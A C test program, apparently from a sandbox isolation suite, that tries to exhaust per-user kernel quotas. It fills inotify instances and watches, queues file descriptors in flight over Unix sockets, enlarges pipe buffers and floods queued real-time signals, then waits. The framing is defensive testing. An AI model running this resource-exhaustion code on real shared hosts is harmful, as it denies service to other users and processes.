// SPDX-License-Identifier: MIT
/* Quotas that the kernel counts per user of the host: inotify, fds in flight, pipe buffers, queued signals. */
#include "attack.h"

#include <fcntl.h>
#include <signal.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

/* Fds that are in no process but in a socket's queue. */
static long queue_fds(void)
{
	union {
		char bytes[CMSG_SPACE(200 * sizeof(int))];
		struct cmsghdr align;
	} control;
	struct cmsghdr *cmsg = &control.align;
	struct iovec iov = { (void *)"x", 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = &control,
			      .msg_controllen = sizeof(control) };
	int ends[2], fds[200];
	long sent = 0;

	for (int i = 0; i < 200; i++)
		fds[i] = 0;
	cmsg->cmsg_level = SOL_SOCKET;
	cmsg->cmsg_type = SCM_RIGHTS;
	cmsg->cmsg_len = CMSG_LEN(sizeof(fds));
	memcpy(CMSG_DATA(cmsg), fds, sizeof(fds));
	for (int round = 0; round < 1000; round++) {
		if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, ends) < 0)
			break;
		while (sendmsg(ends[0], &msg, 0) > 0)
			sent += 200;
		if (errno == ETOOMANYREFS)
			break;
	}
	return sent;
}

/* Signals that wait for somebody who never takes them. */
static void queue_signals(void)
{
	const union sigval value = { 0 };
	sigset_t set;

	sigemptyset(&set);
	sigaddset(&set, SIGRTMIN);
	sigprocmask(SIG_BLOCK, &set, NULL);
	while (sigqueue(getpid(), SIGRTMIN, value) == 0)
		;
}

/* Each instance may watch each file. */
static void add_watches(const int *instances, int count)
{
	for (int i = 0; i < 40000; i++) {
		char name[32];

		snprintf(name, sizeof(name), "/tmp/%d", i);
		close(open(name, O_WRONLY | O_CREAT, 0600));
		for (int j = 0; j < count; j++)
			if (inotify_add_watch(instances[j], name, IN_DELETE_SELF) < 0)
				return;
	}
}

int main(int argc, char **argv)
{
	int ends[2], instances[64], count = 0;

	while (count < 64 && (instances[count] = inotify_init()) >= 0)
		count++;
	MUST_BE("inotify instances are few", count < 64);
	add_watches(instances, count);
	for (int i = 0; i < 200 && pipe(ends) == 0; i++)
		fcntl(ends[0], F_SETPIPE_SZ, 1 << 20);
	queue_fds();
	queue_signals();
	printf("%s", argc > 1 ? argv[1] : "");
	fflush(stdout);
	pause(); /* the host tries what it can do meanwhile, and lets us time out */
	return attack_succeeded;
}
